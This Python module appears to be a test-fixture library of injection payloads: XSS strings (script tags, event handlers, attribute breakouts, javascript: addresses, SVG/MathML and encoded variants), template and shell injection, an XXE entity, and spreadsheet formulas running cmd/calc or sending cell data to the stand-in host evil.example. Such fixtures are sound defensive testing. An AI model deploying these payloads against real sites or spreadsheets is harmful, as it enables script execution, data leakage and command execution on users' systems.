"""Payloads: texts that are harmless as text, and run, load or count as soon as a page or a spreadsheet takes them for more.

Each is made of a carrier (an element, an attribute, an address) and of what it would do: set ``window.pwned`` and the title of
the page, or ask ``EVIL`` for something. No machine can answer at ``EVIL``: the name is reserved for examples.
"""

from itertools import product

EVIL = "//evil.example"
RUN = "document.title=window.pwned='pwned'"
CALL = "document.title=window.pwned=1"  # without quotes, for attributes of any kind

TAGS = ("script", "SCRIPT", "ScRiPt", "script/x", "script\t", "script\n", "script type=module", "script\x0c")
SCRIPTS = [f"<{tag}>{RUN}</script>" for tag in TAGS]
SCRIPTS += [
    f"<script src={EVIL}/x.js></script>",
    f"<script>{RUN}",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<script>`${{{RUN}}}`</script>",
    f"<script\x00>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"<script>\u2028{RUN}\u2029</script>",
]

LOADERS = (
    "img src=x",
    "img/src=x",
    "image src=x",
    "video><source",
    "audio src=x",
    "input type=image src=x",
    "object data=x",
    "embed src=x",
)
HANDLED = [f"<{element} onerror={CALL}>" for element in LOADERS]
OPENERS = ("svg", "body", "svg/x", "iframe", "style", "link rel=stylesheet href=data:text/css,", "marquee loop=1")
HANDLED += [f"<{element} onload={CALL}>" for element in OPENERS]
ON = {
    "details open": "toggle", "input autofocus": "focus", "select autofocus": "focus", "textarea autofocus": "focus", "a tabindex=1 autofocus": "focus",
    "video autoplay src=x": "loadstart", "marquee": "start", "p style=animation:x": "animationstart", "div style=transition:1s": "transitionend",
    "p": "pointerover", "b": "click", "mark tabindex=0": "focusin", "form": "submit", "math": "mouseover", "svg><animate begin=0s": "begin",
    "body": "pageshow", "dialog open": "close", "x contenteditable": "beforeinput",
}  # fmt: skip
HANDLED += [f"<{element} on{event}={CALL}>x" for element, event in ON.items()]
HANDLED += [
    f"<img src=x OnErRoR\n=\n{CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f"<img src=x onerror\x0b={CALL}>",
    f"<svg\u00a0onload={CALL}>",
]

QUOTES = ('"', "'", "", "`", "&quot;", "&#39;", "”", "＂")
BROKEN = [f"{quote}><script>{RUN}</script>" for quote in QUOTES]
BROKEN += [f"{quote} onmouseover={quote}{CALL}{quote} x={quote}" for quote in QUOTES]
BROKEN += [f"{quote} autofocus tabindex=1 onfocus={CALL} " for quote in QUOTES[:4]]
BROKEN += [f"{quote} style={quote}background:url({EVIL}/x)" for quote in QUOTES[:3]]
BROKEN += [f"\\{quote}-({RUN})-{quote}" for quote in QUOTES[:2]]

SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,",
)
ADDRESSES = [f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES]
ADDRESSES += [f"{scheme}{CALL}" for scheme in SCHEMES[:4]]
ADDRESSES += [f"<iframe src={scheme}{CALL}></iframe>" for scheme in SCHEMES[:2]]
ADDRESSES += [
    f"http:{EVIL}/'onclick='{CALL}",
    f"https:{EVIL}/?q=</a><script>{RUN}</script>",
    f"<area href=javascript:{CALL}>",
    f"<a ping={EVIL} href=#>x</a>",
]

FOREIGN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,{CALL}#x /></svg>",
    f"<svg><image href={EVIL}/x.png></svg>",
    f"<svg><set attributeName=href to=javascript:{CALL}></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><style>@import url({EVIL});</style></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<math><mtext></p><script>{RUN}</script></math>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><mglyph><style><img src=x onerror={CALL}></style></mglyph></math>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http:{EVIL}">]><x>&e;</x>',
    f"<?xml-stylesheet href={EVIL}/x.xsl?>",
]

DECLARED = [
    f"<!-- --><script>{RUN}</script><!-- -->",
    f"--><script>{RUN}</script>",
    f"--!><img src=x onerror={CALL}>",
    f"<!--><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<!DOCTYPE html><script>{RUN}</script>",
    f"<?php echo 1 ?><script>{RUN}</script>",
    f"<!x><script>{RUN}</script>",
    f"<%<script>{RUN}</script>%>",
]
RAW = (
    "style",
    "title",
    "textarea",
    "noscript",
    "template",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "script",
    "select",
    "mark",
    "head",
    "body",
    "td",
    "table",
    "svg",
)
ENDED = [f"</{element}><script>{RUN}</script>" for element in RAW]
ENDED += [f"</{element}\n ><img src=x onerror={CALL}>" for element in RAW[:4]]
ENDED += [
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<xmp><script>{RUN}</script></xmp>",
    "<plaintext>",
]

STYLED = [
    f"<style>@import '{EVIL}';</style>",
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    f"<style>mark[data-why^=a]{{background:url({EVIL}/a)}}</style>",
    f"<p style=width:expression({CALL})>x</p>",
    f"<p style=background:url({EVIL}/x)>x</p>",
    f"<p style=-moz-binding:url({EVIL}/x.xml)>x</p>",
    f"}}body{{background:url({EVIL}/x)}}/*",
    f"*/@import url({EVIL});/*",
    f"</style><style>@font-face{{font-family:x;src:url({EVIL}/x)}}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=import href={EVIL}/x.html>",
    f"<link rel=preload as=image href={EVIL}/x>",
    f"<link rel=dns-prefetch href={EVIL}>",
]
LOADED = [
    f"<meta http-equiv=refresh content='0;url=http:{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta charset=utf-7>",
    f"<base href=http:{EVIL}/>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}/x.swf></object>",
    f"<object data=data:text/html,{CALL}></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<applet code=x codebase={EVIL}></applet>",
    f"<form action={EVIL}><input name=x><button>x</button></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<isindex action=javascript:{CALL} type=image>",
    f"<img src={EVIL}/x.png>",
    f"<img srcset={EVIL}/x.png>",
    f"<video poster={EVIL}/x.png></video>",
    f"<track src={EVIL}/x.vtt>",
    f"<table background={EVIL}/x.png><td>x",
    "<img src=x name=body id=pwned><a id=pwned name=pwned>x</a>",
    f"<portal src={EVIL}></portal>",
]  # fmt: skip

ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&#0000060script&#0000062{RUN}",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"+/v8-+ADw-img src=x onerror={CALL}+AD4-",
    f"\u00c0\u00bcscript\u00c0\u00be{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"‹script›{RUN}‹/script›",
    f"﹤img src=x onerror={CALL}﹥",
    f"\u1438script\u1433{RUN}",
    f"¼script¾{RUN}¼/script¾",
    f"\u202e>tpircs<{RUN}\u202c",
    f"\u2066<script>\u2069{RUN}</script>",
    f"<s\u00adcript>{RUN}</s\u00adcript>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"<scr\u0131pt>{RUN}</scr\u0131pt>",
    f"\ud83d<script>{RUN}</script>\udc80",
    f"\x1b]0;pwned\x07<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<script>{RUN}</script>\x85",
    f"<img\u2028src=x\u2029onerror={CALL}>",
]
HALF = [
    "<",
    "</",
    "<!",
    "<!--",
    "<a",
    "<a href='",
    '<a title="',
    f"<img src=x onerror={CALL} ",
    f"<script src={EVIL}/x.js",
    "&",
    "&#",
    "&lt",
    '"',
    "'",
    "`",
]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{0.__class__.__init__.__globals__}",
    "%(name)s %n %s",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"$\\href{{javascript:{CALL}}}{{x}}$",
    f"[x](javascript:{CALL})",
    f"![x]({EVIL}/x.png)",
    "$(touch pwned)`touch pwned`",
    "$x^{$",
]

KINDS = {
    "script": SCRIPTS, "handler": HANDLED, "attribute": BROKEN, "address": ADDRESSES, "foreign": FOREIGN, "declaration": DECLARED, "end tag": ENDED,
    "style": STYLED, "load": LOADED, "encoded": ENCODED, "half": HALF, "template": TEMPLATES,
}  # fmt: skip
XSS = [payload for payloads in KINDS.values() for payload in payloads]

# ---- spreadsheets

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\r\n ")
FORMULAS = [f"{before}{sign}1+1" for before, sign in product(BEFORE, SIGNS)]
FORMULAS += [
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!x",
    f'=HYPERLINK("http:{EVIL}?x="&A1,"more")',
    f"=IMPORTXML(CONCAT(\"http:{EVIL}?x=\",A1:B9),\"//a\")",
    f'=IMPORTDATA("http:{EVIL}")',
    f'=IMPORTRANGE("http:{EVIL}","A1")',
    f'=IMPORTHTML("http:{EVIL}","table",1)',
    f'=IMPORTFEED("http:{EVIL}")',
    f'=IMAGE("http:{EVIL}/x.png")',
    f'=WEBSERVICE("http:{EVIL}")',
    f"='file://{EVIL}/x'#$Sheet1.A1",
    '=RTD("x";;"y")',
    "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    '=REGISTER.ID("x","y")',
    "=EXEC(\"calc\")",
    "=1+1\"; =1+1",
    '="="&"1+1"',
    "==1",
    "=-1",
    "+-@=1",
    "=\t1",
    "=\n1",
    "=A1\x00",
    "=IF(TRUE,HYPERLINK(\"x\"),-1)",
    "\t\t=1",
    " \t=1",
    "\n\n@x",
    "-1,=2",
    "@",
    "-",
    "=",
    "+1 555 0100",
]  # fmt: skip
QUOTED = [
    "'=1+1",
    '"=1+1"',
    "“=1+1”",
    "x=1+1",
    "a-b",
    "1-1",
    "'",
    '"',
    ",=1",
    '",=1+1,"',
]  # texts that no spreadsheet runs
